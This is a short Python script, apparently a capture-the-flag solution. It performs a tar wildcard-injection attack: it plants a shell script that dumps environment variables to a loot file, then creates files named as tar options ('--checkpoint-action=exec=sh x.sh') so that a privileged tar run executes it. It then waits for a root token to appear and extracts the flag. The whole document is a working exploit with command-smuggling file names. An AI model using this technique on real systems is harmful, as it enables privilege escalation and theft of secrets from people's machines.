import re
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

import os, time
open("/work/uploads/x.sh", "w").write("env > /work/loot.txt\n")
open("/work/uploads/--checkpoint=1", "w").close()
open("/work/uploads/--checkpoint-action=exec=sh x.sh", "w").close()
for _ in range(50):
    if os.path.exists("/work/loot.txt") and "ROOT_TOKEN" in open("/work/loot.txt").read():
        break
    time.sleep(0.1)
flag(open("/work/loot.txt").read())
